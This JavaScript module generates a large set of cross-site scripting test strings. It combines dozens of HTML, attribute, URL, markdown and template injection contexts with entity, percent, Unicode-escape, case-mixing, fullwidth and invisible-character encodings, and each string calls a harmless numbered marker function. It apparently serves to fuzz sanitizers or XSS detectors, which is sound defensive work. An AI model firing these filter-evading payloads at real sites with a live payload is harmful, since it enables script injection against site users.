// Takes nothing, gives strings that would run something if a page let them: contexts × encodings × code points. Each calls
// ran(N), with its own number.

const CONTEXTS = [
  (c) => `<script>${c}</script>`, (c) => `<img src=x onerror=${c}>`, (c) => `"><img src=x onerror=${c}>`, (c) => `'><svg onload=${c}>`,
  (c) => `" onfocus=${c} autofocus x="`, (c) => `' onfocus=${c} autofocus x='`, (c) => `</script><script>${c}</script>`,
  (c) => `--><script>${c}</script>`, (c) => `]]><script>${c}</script>`, (c) => `</title><script>${c}</script>`,
  (c) => `</textarea><img src=x onerror=${c}>`, (c) => `</style><script>${c}</script>`, (c) => `</span></q></p><svg/onload=${c}>`,
  (c) => `<iframe srcdoc="<script>parent.${c}</script>"></iframe>`, (c) => `<iframe src="javascript:parent.${c}">`,
  (c) => `<a href="javascript:${c}">x</a>`, (c) => `javascript:${c}`, (c) => `[x](javascript:${c})`, (c) => `![x](x"onerror="${c})`,
  (c) => `<https://x/"onfocus=${c} autofocus/>`, (c) => `<svg><style><img src=x onerror=${c}></style></svg>`,
  (c) => `<math><mtext><table><mglyph><style><img src=x onerror=${c}>`, (c) => `{{ ${c} }}`, (c) => `{% set x = ${c} %}`,
  (c) => `\${${c}}`, (c) => `'-${c}-'`, (c) => `";${c};//`, (c) => `\\";${c};//`, (c) => `\u2028${c}//`,
  (c) => `<details open ontoggle=${c}>`, (c) => `<input autofocus onfocus=${c}>`, (c) => `<object data="data:text/html,<script>parent.${c}</script>">`,
  (c) => `<meta http-equiv=refresh content="0;javascript:${c}">`, (c) => `<base href="//127.0.0.1:1/"><script>${c}</script>`,
  (c) => `<noscript><p title="</noscript><script>${c}</script>">`, (c) => `<template><script>${c}</script></template><body onload=${c}>`,
];

const all = (text, change) => [...text].map(change).join('');
const signs = (text, change) => text.replace(/[<>"'&/=]/g, change);
const code = (c) => c.codePointAt(0);

const ENCODINGS = [
  (t) => t,
  (t) => signs(t, (c) => `&#${code(c)};`),
  (t) => signs(t, (c) => `&#x${code(c).toString(16)}`),
  (t) => signs(t, (c) => ({ '<': '&lt;', '>': '&gt;', '"': '&quot;', '&': '&amp;' })[c] ?? c),
  (t) => signs(t, (c) => `%${code(c).toString(16)}`),
  (t) => signs(t, (c) => `\\u${code(c).toString(16).padStart(4, '0')}`),
  (t) => signs(t, (c) => `\\x${code(c).toString(16)}`),
  (t) => t.replace(/script|img|svg|on(error|load|focus)/g, (w) => all(w, (c, at) => (at % 2 ? c : c.toUpperCase()))),
  (t) => signs(t, (c) => String.fromCodePoint(code(c) + 0xfee0)),
  (t) => `\u{e0067}${all(t, (c) => (code(c) < 0x7f && code(c) > 0x1f ? String.fromCodePoint(0xe0000 + code(c)) : c))}\u{e007f}`,
];

/** What is put before a string, after its first sign, and at its end. */
const POINTS = ['', '\u200b', '\u00ad', '\ufeff', '\u2029', '\u00a0', '\u202e', '\u{e0001}', '\u0001', '\ufdd0'];

/** All of them, each with its number in it. */
export function strings() {
  const made = CONTEXTS.flatMap((context) => ENCODINGS.flatMap((encoding) => POINTS.map((point) => [context, encoding, point])));
  return made.map(([context, encoding, point], n) => {
    const text = encoding(context(`ran(${n})`));
    const [first, ...rest] = text;
    return point + first + point + rest.join('') + point;
  });
}
